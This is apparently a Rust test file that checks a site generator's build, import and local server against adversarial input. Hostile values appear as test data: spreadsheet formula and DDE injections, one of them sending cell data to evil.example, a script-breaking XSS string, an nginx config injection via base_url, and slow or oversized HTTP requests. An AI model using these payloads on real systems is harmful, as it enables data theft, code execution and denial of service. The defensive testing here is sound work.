//! Adversarial input (issue 20, injection, check = build, serve and import
//! under abuse): hostile names and URLs, control characters, oversized
//! sheets and slow or oversized requests. Every loop here is bounded.

mod common;

use common::{Site, broken_with};

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

const ART: &str = "content/articles/tin/mot.md";

const BIN: &str = env!("CARGO_BIN_EXE_chiso");

/// `chiso import data <file> --into <into> <args…>` run in `dir`.
fn import(dir: &Path, file: &str, into: &str, args: &[&str]) -> common::Out {
    let o = Command::new(BIN)
        .env("CHISO_LANG", "en")
        .args(["import", "data", file, "--into", into])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    common::Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

/// A small valid dataset whose title and unit names the test chooses.
fn dataset(title: &str, names: &[&str]) -> String {
    let mut units = String::new();
    let mut scores = String::new();
    for (i, n) in names.iter().enumerate() {
        let n = serde_json::to_string(n).unwrap();
        units.push_str(&format!(
            "  - {{ key: \"{k}\", name: {n}, short: \"Đơn vị {k}\", slug: \"don-vi-{k}\" }}\n",
            k = i + 1
        ));
        scores.push_str(&format!(
            "      \"{}\": {{ total: {} }}\n",
            i + 1,
            70 - i % 50
        ));
    }
    let title = serde_json::to_string(title).unwrap();
    format!(
        "title: {title}\nsource:\n  - {{ name: \"Nguồn thử\" }}\nstatus: illustrative\n\
         scale: {{ max: 100, unit: \"điểm\", decimals: 2 }}\nunits:\n{units}results:\n\
         \x20 - year: 2022\n    scores:\n{scores}"
    )
}

/// Every file under `dir` whose name ends with `ext`, with its text.
fn files_ending(dir: &Path, ext: &str) -> Vec<(String, String)> {
    common::snapshot(dir)
        .into_iter()
        .filter(|(p, _)| p.to_string_lossy().ends_with(ext))
        .map(|(p, b)| {
            (
                p.display().to_string(),
                String::from_utf8(b).expect("UTF-8"),
            )
        })
        .collect()
}

const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
];

#[test]
fn csv_downloads_never_start_a_cell_with_a_formula() {
    let (site, _) =
        common::builds(|s| s.write("content/data/thu.yaml", dataset("Chỉ số thử", &FORMULAS)));
    let bytes = std::fs::read(site.path("output/chi-so/thu/thu.csv")).unwrap();
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(&bytes[3..]);
    let head: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    let total = head
        .iter()
        .position(|h| h.starts_with("Tổng điểm"))
        .unwrap();
    let mut names = Vec::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        // Numbers stay numbers.
        rec[total].parse::<f64>().expect("a number");
        names.push(rec[2].to_string());
    }
    for f in FORMULAS {
        assert!(names.contains(&format!("'{f}")), "{f:?} not in {names:?}");
    }
}

#[test]
fn csv_downloads_keep_negative_numbers_as_numbers() {
    let text = dataset("Chỉ số thử", &["Xã Một", "Xã Hai"])
        .replace("scale: { max: 100,", "scale: { min: -10, max: 100,")
        .replace("total: 69", "total: -3.5");
    let (site, _) = common::builds(|s| s.write("content/data/thu.yaml", &text));
    let csv = site.read("output/chi-so/thu/thu.csv");
    assert!(csv.contains(",-3.50,"), "{csv}");
}

#[test]
fn published_json_cannot_close_a_script_element() {
    let hostile = "</script><script>alert(1)</script> & <!--";
    let (site, _) = common::builds(|s| {
        s.write(
            "content/data/thu.yaml",
            dataset(hostile, &["<b>Xã</b> & Một", "Xã Hai"]),
        );
        s.write(
            "content/articles/tin/hostile.md",
            format!(
                "---\ntitle: \"{}\"\ndate: 2024-03-01\ncategory: Kinh tế\n---\n\nBài có </script> & <b>\n",
                hostile.replace('"', "\\\"")
            ),
        );
    });
    let out = site.path("output");
    let jsons = files_ending(&out, ".json");
    assert!(jsons.len() > 2, "{jsons:?}");
    for (path, text) in &jsons {
        assert!(!text.contains(['<', '>', '&']), "{path}: {text}");
        serde_json::from_str::<serde_json::Value>(text).unwrap_or_else(|e| panic!("{path}: {e}"));
    }
    // The download round-trips unchanged.
    let v: serde_json::Value =
        serde_json::from_str(&site.read("output/chi-so/thu/thu.json")).unwrap();
    assert_eq!(v["title"], hostile);
    assert_eq!(v["units"][0]["name"], "<b>Xã</b> & Một");
    // The search index holds the title, escaped, and gives it back.
    let found = jsons
        .iter()
        .filter(|(p, _)| p.contains("/d/") || p.contains("\\d\\"))
        .any(|(_, t)| t.contains("\\u003c/script\\u003e"));
    assert!(found, "the hostile title is not in the search documents");
}

#[test]
fn a_base_url_with_a_yaml_escaped_newline_is_refused_at_its_line() {
    // `\n` in a double-quoted YAML string is a newline only after
    // unescaping: the nginx map would have gained a whole server block.
    let (_, out) = broken_with(
        |s| {
            let yaml = s.read("content/site.yaml").replace(
                "base_url: \"https://thu.example.gov.vn/\"",
                "base_url: \"https://thu.example.gov.vn/a\\nserver{listen 80;}/\"",
            );
            s.write("content/site.yaml", yaml);
        },
        &[],
        1,
    );
    out.assert_error("E0107", "content/site.yaml:3");
}

#[test]
fn a_base_url_path_with_nginx_syntax_is_refused() {
    for url in [
        "https://x.example/a;b/",
        "https://x.example/$host/",
        "https://x.example/a{b}/",
    ] {
        let site = Site::fixture("good");
        let out = site.run(&["check", "--base-url", url]);
        out.assert_code(1);
        out.assert_error("E0107", "--base-url");
    }
}

#[test]
fn a_sheet_with_cells_a1_and_xfd1048576_is_refused_not_allocated() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("content/data")).unwrap();
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    ws.write_string(0, 0, "Đơn vị").unwrap();
    ws.write_number(1_048_575, 16_383, 1.0).unwrap();
    let path = dir.path().join("bom.xlsx");
    wb.save(&path).unwrap();
    assert!(std::fs::metadata(&path).unwrap().len() < 8 * 1024);
    let out = import(
        dir.path(),
        "bom.xlsx",
        "content/data/t.yaml",
        &["--year", "2022"],
    );
    out.assert_code(1);
    out.assert_error("E0701", "bom.xlsx:Sheet1!A1");
    assert!(out.stderr.contains("XFD1048576"), "{}", out.stderr);
    assert!(!dir.path().join("content/data/t.yaml").exists());
}

#[test]
fn a_csv_wider_than_a_sheet_may_be_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("content/data")).unwrap();
    let row = ";".repeat(5_000);
    std::fs::write(
        dir.path().join("w.csv"),
        format!("Đơn vị;Tổng điểm\n{row}\n"),
    )
    .unwrap();
    let out = import(
        dir.path(),
        "w.csv",
        "content/data/t.yaml",
        &["--year", "2022"],
    );
    out.assert_code(1);
    out.assert_error("E0701", "w.csv:A1");
}

#[test]
fn unknown_units_get_the_nearest_names_not_every_name() {
    let dir = tempfile::tempdir().unwrap();
    let names: Vec<String> = (1..=300).map(|i| format!("Xã Số {i}")).collect();
    let refs: Vec<&str> = names.iter().map(String::as_str).collect();
    let data = dir.path().join("content/data");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("t.yaml"), dataset("Chỉ số thử", &refs)).unwrap();
    let mut csv = String::from("Tên đơn vị;Tổng điểm\n");
    for i in 1..=300 {
        csv.push_str(&format!("Phường Số {i};50\n"));
    }
    std::fs::write(dir.path().join("u.csv"), csv).unwrap();
    let out = import(
        dir.path(),
        "u.csv",
        "content/data/t.yaml",
        &["--year", "2023"],
    );
    out.assert_code(1);
    let unknown = out.stderr.matches("is not a unit of dataset").count();
    assert_eq!(unknown, 300, "{}", out.stderr);
    // Every unit in every hint was 300 × 300 names (~900 KB); now a line each.
    eprintln!("{} bytes of diagnostics", out.stderr.len());
    assert!(out.stderr.len() < 200_000, "{} bytes", out.stderr.len());
    assert!(out.stderr.contains("(Xã Số 1, "), "{}", out.stderr);
    assert!(out.stderr.contains(" and 297 more)"), "{}", out.stderr);
}

/// An article of the good site whose front matter and body the test writes.
fn article(title_yaml: &str, body: &str) -> String {
    format!(
        "---\ntitle: {title_yaml}\ndate: 2024-03-01T08:00:00+07:00\ncategory: \"Kinh tế\"\n\
         summary: \"Tóm tắt\"\n---\n{body}\n"
    )
}

#[test]
fn a_control_escape_on_the_second_line_of_a_quoted_title_is_refused() {
    for esc in ["\\e", "\\a", "\\0", "\\N", "\\u202E", "\\x85"] {
        let (_, out) = broken_with(
            |s| {
                s.write(
                    ART,
                    article(&format!("\"Tin vui\n  tiếp {esc} nữa\""), "Thân bài."),
                )
            },
            &[],
            1,
        );
        out.assert_error("E0006", &format!("{ART}:3"));
    }
}

#[test]
fn c1_controls_and_bidi_overrides_in_a_title_are_refused() {
    for c in ['\u{85}', '\u{202E}', '\u{2066}', '\u{FDD0}', '\u{7F}'] {
        let (_, out) = broken_with(
            |s| s.write(ART, article(&format!("\"Tin {c}vui\""), "Thân bài.")),
            &[],
            1,
        );
        out.assert_error("E0006", &format!("{ART}:2"));
    }
}

#[test]
fn numeric_references_to_control_characters_never_reach_a_page_or_the_feed() {
    let body = "Một &#1; hai &#x1F; ba &#127; bốn &#xFFFE; năm &#x85; sáu &#x202E; `&#1;`";
    let (site, _) = common::builds(|s| s.write(ART, article("\"Tin &#1; vui\"", body)));
    let rss = site.read("output/rss.xml");
    roxmltree::Document::parse(&rss).expect("rss.xml is well-formed");
    let page = files_ending(&site.path("output"), ".html")
        .into_iter()
        .find(|(_, t)| t.contains("Một "))
        .expect("the article's page");
    let forbidden = |c: char| {
        let u = c as u32;
        (u < 0x20 && !matches!(c, '\t' | '\n' | '\r'))
            || (0x7F..=0x9F).contains(&u)
            || (0x202A..=0x202E).contains(&u)
            || u & 0xFFFE == 0xFFFE
    };
    assert!(!page.1.contains(forbidden), "{}", page.0);
    assert!(page.1.contains("Một \u{FFFD} hai"), "{}", page.1);
    assert!(!rss.contains(forbidden));
}

/// `chiso serve` on a free port, killed when dropped.
struct Server {
    child: Child,
    port: u16,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn serve(site: &Site) -> Server {
    #[allow(clippy::zombie_processes)] // waited for in Server::drop
    let mut child = Command::new(BIN)
        .args(["serve", "--port", "0", "--root"])
        .arg(site.root())
        .arg("--output")
        .arg(site.path("serve-out"))
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = child.stderr.take().unwrap();
    let mut server = Server { child, port: 0 };
    let mut lines = BufReader::new(stderr).lines().map_while(Result::ok);
    for line in lines.by_ref().take(200) {
        if let Some(rest) = line.split("http://127.0.0.1:").nth(1) {
            server.port = rest.split('/').next().unwrap().parse().unwrap();
            break;
        }
    }
    assert!(server.port != 0, "serve printed no address");
    std::thread::spawn(move || lines.for_each(drop));
    server
}

fn connect(port: u16) -> TcpStream {
    let s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    s
}

/// What the server answers after `bytes` (the whole response).
fn answer(port: u16, bytes: &[u8]) -> Vec<u8> {
    let mut s = connect(port);
    s.write_all(bytes).unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    out
}

fn status(resp: &[u8]) -> String {
    String::from_utf8_lossy(&resp[..resp.len().min(12)]).into_owned()
}

#[test]
fn slow_clients_never_keep_a_normal_request_waiting() {
    let site = Site::fixture("good");
    let server = serve(&site);
    let port = server.port;
    // Six clients, more than there are workers, each sending a header line
    // every second for eight seconds.
    let slow: Vec<_> = (0..6)
        .map(|_| {
            std::thread::spawn(move || {
                let mut s = connect(port);
                let _ = s.write_all(b"GET / HTTP/1.1\r\n");
                for i in 0..8 {
                    std::thread::sleep(Duration::from_secs(1));
                    if s.write_all(format!("X-Slow-{i}: 1\r\n").as_bytes())
                        .is_err()
                    {
                        break;
                    }
                }
            })
        })
        .collect();
    std::thread::sleep(Duration::from_millis(1500));
    // A normal request is answered while they are still dripping: before,
    // it waited for them (a 2 s timeout per read, not per request).
    let mut s = connect(port);
    s.set_read_timeout(Some(Duration::from_secs(4))).unwrap();
    s.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        .unwrap();
    let mut first = [0u8; 12];
    s.read_exact(&mut first)
        .expect("an answer while slow clients hold their connections");
    assert_eq!(&first, b"HTTP/1.1 200");
    for t in slow {
        t.join().unwrap();
    }
}

#[test]
fn a_request_head_that_never_ends_gets_408() {
    let site = Site::fixture("good");
    let server = serve(&site);
    let resp = answer(server.port, b"GET / HTTP/1.1\r\nHost: localhost\r\n");
    assert_eq!(status(&resp), "HTTP/1.1 408");
}

#[test]
fn oversized_request_lines_and_heads_get_414_and_431() {
    let site = Site::fixture("good");
    let server = serve(&site);
    let long_path = format!(
        "GET /{} HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "a".repeat(20_000)
    );
    assert_eq!(
        status(&answer(server.port, long_path.as_bytes())),
        "HTTP/1.1 414"
    );
    let many = format!(
        "GET / HTTP/1.1\r\nHost: localhost\r\n{}\r\n",
        "X-Pad: 0123456789012345678901234567890123456789\r\n".repeat(400)
    );
    assert_eq!(
        status(&answer(server.port, many.as_bytes())),
        "HTTP/1.1 431"
    );
    // Still answering.
    let ok = answer(server.port, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n");
    assert_eq!(status(&ok), "HTTP/1.1 200");
}

/// The peak resident memory of a process, in bytes (Linux).
fn peak_rss(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let kb: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap();
    kb * 1024
}

#[test]
fn serve_streams_large_files_and_head_reads_nothing() {
    const LEN: u64 = 64 * 1024 * 1024;
    let site = Site::fixture("good");
    let big = site.path("content/static/tai-lieu/lon.bin");
    std::fs::create_dir_all(big.parent().unwrap()).unwrap();
    std::fs::write(&big, vec![7u8; LEN as usize]).unwrap();
    let server = serve(&site);
    let port = server.port;
    let before = peak_rss(server.child.id());
    let head = b"HEAD /tai-lieu/lon.bin HTTP/1.1\r\nHost: localhost\r\n\r\n";
    let heads: Vec<_> = (0..4)
        .map(|_| std::thread::spawn(move || answer(port, head)))
        .collect();
    for h in heads {
        let resp = String::from_utf8(h.join().unwrap()).unwrap();
        assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
        assert!(
            resp.contains(&format!("Content-Length: {LEN}\r\n")),
            "{resp}"
        );
        assert!(resp.ends_with("\r\n\r\n"), "a HEAD with a body");
    }
    let get = b"GET /tai-lieu/lon.bin HTTP/1.1\r\nHost: localhost\r\n\r\n";
    let gets: Vec<_> = (0..4)
        .map(|_| {
            std::thread::spawn(move || {
                let mut s = connect(port);
                s.write_all(get).unwrap();
                let mut n = 0u64;
                let mut buf = vec![0u8; 1 << 16];
                while let Ok(k @ 1..) = s.read(&mut buf) {
                    n += k as u64;
                }
                n
            })
        })
        .collect();
    for g in gets {
        assert!(g.join().unwrap() > LEN, "the whole file and its head");
    }
    let grew = peak_rss(server.child.id()).saturating_sub(before);
    eprintln!("serve's peak memory grew by {grew} bytes");
    // Four 64 MB files read whole would be 256 MB.
    assert!(grew < 32 * 1024 * 1024, "peak memory grew by {grew} bytes");
}

/// `line` added to the front matter of the good site's article `rel`.
fn with_front(s: &Site, rel: &str, line: &str) {
    let text = s.read(rel).replacen("---\n", &format!("---\n{line}\n"), 1);
    s.write(rel, text);
}

#[test]
fn check_finds_an_alias_where_chiso_writes_a_file() {
    for alias in ["/rss.xml", "/robots.txt"] {
        let (_, out) = broken_with(
            |s| with_front(s, ART, &format!("aliases: [\"{alias}\"]")),
            &[],
            1,
        );
        out.assert_error("E0104", &format!("{ART}:2"));
        assert!(out.stderr.contains(&alias[1..]), "{}", out.stderr);
    }
}

#[test]
fn check_finds_a_static_file_named_like_a_category_folder() {
    let (_, out) = broken_with(|s| s.write("content/static/kinh-te", "x"), &[], 1);
    assert!(
        out.diags()
            .iter()
            .any(|(sev, code, _)| sev == "error" && code == "E0104"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("content/static/kinh-te"),
        "{}",
        out.stderr
    );
}

#[test]
fn aliases_that_differ_only_by_case_are_an_error_naming_both() {
    let (_, out) = broken_with(
        |s| {
            with_front(s, ART, "aliases: [\"/Tin-Cu/\"]");
            with_front(s, "content/articles/tin/hai.md", "aliases: [\"/tin-cu/\"]");
        },
        &[],
        1,
    );
    assert!(out.stderr.contains("Tin-Cu/index.html"), "{}", out.stderr);
    assert!(out.stderr.contains("tin-cu/index.html"), "{}", out.stderr);
    assert!(out.stderr.contains("letter case"), "{}", out.stderr);
}

#[test]
fn check_finds_a_photo_name_too_long_for_the_file_system() {
    let stem = "a".repeat(248);
    let img = image::RgbImage::from_fn(64, 40, |x, y| image::Rgb([x as u8 * 3, y as u8 * 5, 90]));
    let mut png = Vec::new();
    image::DynamicImage::ImageRgb8(img)
        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    let (_, out) = broken_with(
        |s| {
            s.write(format!("content/static/images/{stem}.png").as_str(), &png);
            let text = s.read(ART) + &format!("\n![Ảnh](/images/{stem}.png)\n");
            s.write(ART, text);
        },
        &[],
        1,
    );
    assert!(
        out.diags()
            .iter()
            .any(|(_, code, at)| code == "E0103" && at.contains(&stem)),
        "{}",
        out.stderr
    );
}
